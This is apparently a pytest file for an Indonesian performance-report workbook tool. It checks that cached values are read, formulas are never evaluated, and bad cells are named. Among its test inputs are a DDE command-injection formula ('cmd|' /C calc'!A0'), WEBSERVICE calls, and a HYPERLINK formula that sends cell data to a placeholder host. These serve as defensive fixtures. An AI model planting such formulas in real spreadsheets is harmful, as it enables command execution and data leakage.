"""Awkward content inside a readable workbook, in the master (``hitung``) and in a form (``rekap``).

Each case ends in a correct import (checked against the value the user meant) or a problem naming
sheet and cell; on any error the master is byte-identical. Formulas are never evaluated: the
value Excel cached is read, an error or a missing value is a problem, and text that looks like a
formula is written to the master as text.
"""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bench.forms_scenario import fill_form
from tests.conftest import cell_of
from tests.corpus import generate as g
from tests.corpus.conftest import TW4
from tests.corpus.harness import cli, digest, kinerja, rekap_refused
from tests.services.forms.conftest import find_cell
from xlwings_app.domain.indicator import Jenis

IKU = Jenis.IKU
EMOJI_RTL = "Capaian 👍🏽 naik; keluarga 👨\u200d👩\u200d👧 — مرحبا بالعالم · שלום \u200fעולם"


def hitung_json(path: Path, *extra: str) -> tuple[int, dict[str, Any]]:
    run = cli("hitung", path, "--json", "--periode", "TW3", *extra)
    assert "Traceback" not in run.output and run.code in (0, 2), run.output
    return run.code, json.loads(run.output)


def by_kode(payload: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {row["kode"]: row for row in payload["indikator"]}


@pytest.fixture(scope="session")
def expected(_originals: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """What the untouched example computes (s.d. TW III)."""
    copy = Path(shutil.copy2(_originals / "induk.xlsx", tmp_path_factory.mktemp("acuan") / "induk.xlsx"))
    code, payload = hitung_json(copy, "--json")
    assert code == 0
    return by_kode(payload)


def edited(master: Path, change: Callable[[Any], None]) -> Path:
    return g.edit_copy(master, master.with_name("diubah.xlsx"), change)


def problems_at(payload: dict[str, Any], sheet: str, sel: str, tingkat: str = "galat") -> list[str]:
    return [p["pesan"] for p in payload["masalah"] if p["sheet"] == sheet and p["sel"] == sel and p["tingkat"] == tingkat]


def assert_refused_at(path: Path, sheet: str, sel: str, fragment: str) -> None:
    """hitung refuses with a problem at ``sheet!sel`` and writes nothing."""
    before = digest(path)
    code, payload = hitung_json(path)
    assert code == 2
    assert any(fragment in p for p in problems_at(payload, sheet, sel)), payload["masalah"]
    assert digest(path) == before and not (path.parent / "Cadangan Kinerja").exists()


# --- the master -------------------------------------------------------------------------------


def test_reordered_columns_are_found_by_their_headers(master: Path, expected: dict[str, dict[str, Any]]) -> None:
    def swap(wb: Any) -> None:
        ws: Worksheet = wb["IKU"]
        a, b = cell_of(master, IKU, "IKU-01", "satuan")[0], cell_of(master, IKU, "IKU-01", "r3")[0]
        for row in ws.iter_rows(min_row=1, max_row=ws.max_row):
            left, right = row[ord(a) - 65], row[ord(b) - 65]
            left.value, right.value = right.value, left.value

    code, payload = hitung_json(edited(master, swap))
    assert code == 0, payload["masalah"]
    assert by_kode(payload) == expected


def test_merged_cells_inside_the_table_name_the_emptied_cells(master: Path) -> None:
    first, second = cell_of(master, IKU, "IKU-01", "sasaran"), cell_of(master, IKU, "IKU-02", "sasaran")
    path = edited(master, lambda wb: wb["IKU"].merge_cells(f"{first}:{second}"))
    assert_refused_at(path, "IKU", second, "Sasaran Strategis belum diisi")


def test_hidden_rows_are_data_and_are_read(master: Path, expected: dict[str, dict[str, Any]]) -> None:
    row = int(cell_of(master, IKU, "IKU-03", "kode")[1:])
    path = edited(master, lambda wb: setattr(wb["IKU"].row_dimensions[row], "hidden", True))
    code, payload = hitung_json(path)
    assert code == 0 and by_kode(payload)["IKU-03"] == expected["IKU-03"]


@pytest.fixture(params=["calamine", "openpyxl"])
def engine(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Both readers of the master: calamine (fast) and openpyxl (its fallback)."""
    if request.param == "openpyxl":
        from xlwings_app.adapters.xlsx import calamine as calamine_source
        from xlwings_app.adapters.xlsx import reader as workbook_reader

        def unsuitable(path: Path) -> None:
            raise calamine_source.Unsuitable("uji")

        monkeypatch.setattr(workbook_reader, "CalamineSource", unsuitable)
    return str(request.param)


def test_a_formula_is_never_evaluated_its_cached_value_is_read(
    master: Path, expected: dict[str, dict[str, Any]], engine: str
) -> None:
    sel = cell_of(master, IKU, "IKU-01", "r3")
    value = load_workbook(master)["IKU"][sel].value
    cached = f'<f>HYPERLINK("http://contoh.invalid/?d="&amp;A1,{value})</f><v>{value}</v>'
    path = g.patch_cells(master, master.with_name("rumus.xlsx"), "IKU", {sel: (cached, None)})
    code, payload = hitung_json(path)
    assert code == 0 and by_kode(payload)["IKU-01"] == expected["IKU-01"]


@pytest.mark.parametrize(
    ("formula", "cached", "fragment"),
    [
        ('WEBSERVICE("http://contoh.invalid/angka")', "#VALUE!", "galat Excel #VALUE!"),
        ("cmd|' /C calc'!A0", "#REF!", "galat Excel #REF!"),
        ("1/0", "#DIV/0!", "galat Excel #DIV/0!"),
        ("NA()", "#N/A", "galat Excel #N/A"),
    ],
    ids=["webservice", "dde", "div0", "na"],
)
def test_formula_and_error_cells_are_problems_at_their_cell(master: Path, formula: str, cached: str, fragment: str) -> None:
    sel = cell_of(master, IKU, "IKU-02", "r2")
    inner = f"<f>{formula.replace('&', '&amp;')}</f><v>{cached}</v>"
    path = g.patch_cells(master, master.with_name("galat.xlsx"), "IKU", {sel: (inner, "e")})
    assert_refused_at(path, "IKU", sel, fragment)


def test_a_formula_without_a_cached_value_is_a_problem_not_a_blank(master: Path, engine: str) -> None:
    sel = cell_of(master, IKU, "IKU-02", "r2")
    path = g.patch_cells(master, master.with_name("tanpa-nilai.xlsx"), "IKU", {sel: ("<f>SUM(N1:N2)</f>", None)})
    assert_refused_at(path, "IKU", sel, "rumus")


@pytest.mark.parametrize(
    ("key", "typed", "fragment"),
    [
        ("r3", "17/08/2024", "bukan angka"),
        ("r3", "17 Agustus 2024", "bukan angka"),
        ("r3", "Aug 17, 2024", "bukan angka"),
    ],
    ids=["date-text-id", "date-text-id-long", "date-text-en"],
)
def test_dates_typed_where_numbers_belong(master: Path, key: str, typed: str, fragment: str) -> None:
    sel = cell_of(master, IKU, "IKU-02", key)
    path = edited(master, lambda wb: _set_text(wb["IKU"], sel, typed))
    assert_refused_at(path, "IKU", sel, fragment)


def test_a_real_date_where_a_number_belongs(master: Path) -> None:
    from datetime import datetime

    sel = cell_of(master, IKU, "IKU-02", "r3")
    path = edited(master, lambda wb: wb["IKU"].__setitem__(sel, datetime(2024, 8, 17)))
    assert_refused_at(path, "IKU", sel, "tanggal")


@pytest.mark.parametrize(
    ("typed", "number"),
    [("1,234.5", "1.234,5"), ("Rp 1.500.000", "1.500.000"), ("1.234.567,25", "1.234.567,25"),
     ("2,500,000", "2.500.000")],
    ids=["en-decimal", "rupiah-id", "id-grouped-decimal", "en-grouped"],
)
def test_numbers_typed_as_text_in_either_style(master: Path, typed: str, number: str) -> None:
    sel = cell_of(master, IKU, "IKU-01", "pagu")
    path = edited(master, lambda wb: _set_text(wb["IKU"], sel, typed))
    code, payload = hitung_json(path)
    assert code == 0
    notices = problems_at(payload, "IKU", sel, "catatan")
    assert notices and f"dibaca sebagai angka {number}." in notices[0]  # shown the Indonesian way


def test_ten_thousand_formatted_empty_rows_in_bounded_time_and_memory(master: Path) -> None:
    path = g.formatted_empty_rows(master, master.with_name("berformat.xlsx"), "IKU", 10_000)
    start = time.monotonic()
    run = kinerja("periksa", path, timeout=60, memory_mb=1024)
    assert run.code == 0 and "16 indikator" in run.output, run.output
    assert time.monotonic() - start < 30


def test_very_long_text_is_named(master: Path) -> None:
    sel = cell_of(master, IKU, "IKU-03", "permasalahan_tw1")
    path = edited(master, lambda wb: _set_text(wb["IKU"], sel, "panjang " * 4000))
    assert_refused_at(path, "IKU", sel, "Teks terlalu panjang (31999 karakter")


def _inline(text: str) -> tuple[str, str]:
    from xml.sax.saxutils import escape

    return f'<is><t xml:space="preserve">{escape(text)}</t></is>', "inlineStr"


CONTROLS = "Indeks\x85 Kepuasan\x9b Masyarakat\x7f"
"""C1 controls and DEL: legal in XML, so a file can carry them (C0 controls cannot be in XML)."""


def test_control_characters_are_dropped_and_emoji_and_rtl_kept(master: Path) -> None:
    nama, ket = cell_of(master, IKU, "IKU-03", "nama"), cell_of(master, IKU, "IKU-03", "keterangan")
    path = g.patch_cells(master, master.with_name("teks.xlsx"), "IKU",
                         {nama: _inline(CONTROLS), ket: _inline(EMOJI_RTL)})
    code, payload = hitung_json(path)
    assert code == 0, payload["masalah"]
    assert by_kode(payload)["IKU-03"]["nama"] == "Indeks Kepuasan Masyarakat"
    from xlwings_app.services.workbook import load

    assert next(i for i in load(path).indicators if i.kode == "IKU-03").keterangan == EMOJI_RTL


def test_sheets_and_structure_protected_with_a_password_are_read_and_stay_protected(master: Path) -> None:
    def protect(wb: Any) -> None:
        for name in ("IKU", "IKI", "Profil"):
            wb[name].protection.sheet = True
            wb[name].protection.password = "rahasia"
        wb.security.workbookPassword = "rahasia"
        wb.security.lockStructure = True

    path = edited(master, protect)
    assert cli("hitung", path).code == 0
    wb = load_workbook(path)
    assert wb["IKU"].protection.sheet and wb["IKU"].protection.password
    assert wb.security is not None and wb.security.lockStructure


def _set_text(ws: Worksheet, sel: str, text: str) -> None:
    ws[sel] = text
    ws[sel].data_type = "s"


# --- a form -----------------------------------------------------------------------------------


def rekap_json(master: Path, *forms: Path) -> tuple[int, dict[str, Any]]:
    run = cli("rekap", master, *forms, "--periode", TW4.value, "--json")
    assert "Traceback" not in run.output and run.code in (0, 2), run.output
    return run.code, json.loads(run.output)


def _form_edit(form: Path, change: Callable[[Worksheet], None]) -> Path:
    wb = load_workbook(form)
    change(wb["Isian"])
    wb.save(form)
    return form


def _header_col(ws: Worksheet, header: str) -> int:
    for row in ws.iter_rows(max_row=60):
        if row[0].value == "Kode":
            return next(c.column for c in row if c.value == header)
    raise KeyError(header)


@pytest.mark.parametrize(
    "edit",
    ["deleted", "renamed", "reordered"],
)
def test_a_form_with_changed_columns_is_refused(master: Path, form: Path, edit: str) -> None:
    def change(ws: Worksheet) -> None:
        col = _header_col(ws, "Permasalahan TW IV")
        header_row = next(r[0].row for r in ws.iter_rows(max_row=60) if r[0].value == "Kode")
        ws.protection.sheet = False
        if edit == "deleted":
            ws.delete_cols(col)
        elif edit == "renamed":
            ws.cell(header_row, col).value = "Masalah"
        else:
            other = _header_col(ws, "Rencana Aksi TW IV")
            for r in range(header_row, ws.max_row + 1):
                a, b = ws.cell(r, col), ws.cell(r, other)
                a.value, b.value = b.value, a.value

    before = digest(master)
    _form_edit(form, change)
    rekap_refused(rekap_json_run(master, form), form.name, "Judul kolom formulir")
    assert digest(master) == before


def rekap_json_run(master: Path, *forms: Path) -> Any:
    return cli("rekap", master, *forms, "--periode", TW4.value, "--json")


def test_hidden_rows_of_a_form_are_read(master: Path, form: Path) -> None:
    sel = find_cell(form, "Isian", "IKU-06", "Realisasi TW IV")
    _form_edit(form, lambda ws: setattr(ws.row_dimensions[int(sel[1:])], "hidden", True))
    code, payload = rekap_json(master, form)
    assert code == 0 and [(c["kode"], c["baru"]) for c in payload["perubahan"]] == [("IKU-06", 9)]


def test_merged_input_cells_of_a_form_deliver_only_the_top_left_value(master: Path, form: Path) -> None:
    top = find_cell(form, "Isian", "IKU-06", "Realisasi TW IV")
    below = find_cell(form, "Isian", "IKU-07", "Realisasi TW IV")
    _form_edit(form, lambda ws: ws.merge_cells(f"{top}:{below}"))
    code, payload = rekap_json(master, form)
    assert code == 0 and [(c["kode"], c["baru"]) for c in payload["perubahan"]] == [("IKU-06", 9)]


def test_a_macro_workbook_form_is_read_without_running_its_macros(master: Path, form: Path) -> None:
    xlsm = g.with_macros(form, form.with_suffix(".xlsm"))
    form.unlink()
    code, payload = rekap_json(master, xlsm.parent)
    assert code == 0, payload["masalah"]
    assert [(c["kode"], c["baru"]) for c in payload["perubahan"]] == [("IKU-06", 9)]
    notes = [p for p in payload["masalah"] if p["file"] == xlsm.name]
    assert notes and all(p["tingkat"] == "catatan" for p in notes) and "makro" in notes[0]["pesan"]


@pytest.mark.parametrize(
    ("typed", "fragment"),
    [
        ("=cmd|' /C calc'!A0", "berisi rumus"),
        ('=WEBSERVICE("http://contoh.invalid")', "berisi rumus"),
        ("17/08/2024", "bukan angka"),
    ],
    ids=["dde", "webservice", "date-text"],
)
def test_formulas_and_dates_in_a_forms_realisasi_are_refused(master: Path, form: Path, typed: str, fragment: str) -> None:
    sel = find_cell(form, "Isian", "IKU-07", "Realisasi TW IV")

    def change(ws: Worksheet) -> None:
        ws[sel] = typed  # as typed in Excel: a leading "=" makes a formula
        if not typed.startswith("="):
            ws[sel].data_type = "s"

    _form_edit(form, change)
    before = digest(master)
    problems = rekap_refused(rekap_json_run(master, form), form.name, fragment)
    assert any(p["sel"] == sel and p["sheet"] == "Isian" for p in problems)
    assert digest(master) == before


def test_an_error_cell_in_a_forms_realisasi_is_refused(master: Path, form: Path) -> None:
    sel = find_cell(form, "Isian", "IKU-07", "Realisasi TW IV")
    bad = g.patch_cells(form, form.with_name("galat.xlsx"), "Isian", {sel: ("<f>1/0</f><v>#DIV/0!</v>", "e")})
    form.unlink()
    problems = rekap_refused(rekap_json_run(master, bad), bad.name, "rumus")
    assert any(p["sel"] == sel for p in problems)


def test_formula_text_in_a_form_is_written_to_the_master_as_text(master: Path, form: Path) -> None:
    dde = "=cmd|' /C calc'!A0"
    sel = find_cell(form, "Isian", "IKU-07", "Permasalahan TW IV")
    _form_edit(form, lambda ws: ws.__setitem__(sel, dde))
    code, payload = rekap_json(master, form)
    assert code == 0
    target = find_cell(master, "IKU", "IKU-07", "Permasalahan TW IV")
    cell = load_workbook(master)["IKU"][target]
    assert (cell.value, cell.data_type) == (dde, "s")


@pytest.mark.parametrize(
    ("typed", "number"), [("1.234,5", 1234.5), ("1,234.5", 1234.5), ("97%", 97)], ids=["id", "en", "percent"]
)
def test_numbers_as_text_in_a_form_are_read_with_a_notice(master: Path, form: Path, typed: str, number: float) -> None:
    fill_form(form, {"IKU-07": {"r4": typed}})
    code, payload = rekap_json(master, form)
    assert code == 0
    assert {c["kode"]: c["baru"] for c in payload["perubahan"]}["IKU-07"] == number
    assert any(p["tingkat"] == "catatan" and "dibaca sebagai angka" in p["pesan"] for p in payload["masalah"])


def test_text_of_a_form_keeps_emoji_and_rtl_and_loses_control_characters(master: Path, form: Path) -> None:
    cells = {find_cell(form, "Isian", "IKU-07", "Permasalahan TW IV"): _inline(EMOJI_RTL),
             find_cell(form, "Isian", "IKU-07", "Rencana Aksi TW IV"): _inline("Rapat\x85 koordinasi\x9b")}
    bad = g.patch_cells(form, form.with_name("teks.xlsx"), "Isian", cells)
    form.unlink()
    code, payload = rekap_json(master, bad)
    assert code == 0, payload["masalah"]
    ws = load_workbook(master)["IKU"]
    assert ws[find_cell(master, "IKU", "IKU-07", "Permasalahan TW IV")].value == EMOJI_RTL
    assert ws[find_cell(master, "IKU", "IKU-07", "Rencana Aksi TW IV")].value == "Rapat koordinasi"


def test_very_long_text_in_a_form_is_refused(master: Path, form: Path) -> None:
    fill_form(form, {"IKU-07": {"permasalahan": "x" * 32_000}})
    before = digest(master)
    rekap_refused(rekap_json_run(master, form), form.name, "Teks terlalu panjang (32000 karakter")
    assert digest(master) == before


def test_an_excel_owner_file_in_the_forms_folder_is_skipped(master: Path, form: Path) -> None:
    (form.parent / f"~${form.name}").write_bytes(b"\x0bPengguna Kasi" + bytes(150))
    code, payload = rekap_json(master, form.parent)
    assert code == 0 and payload["formulir"] == 1


def test_a_master_open_in_excel_is_not_written_by_rekap(master: Path, form: Path) -> None:
    (master.parent / f"~${master.name}").write_bytes(b"owner")
    before = digest(master)
    run = cli("rekap", master, form, "--periode", TW4.value)
    assert run.code == 2 and "sedang dibuka di Excel" in " ".join(run.output.split())
    assert digest(master) == before
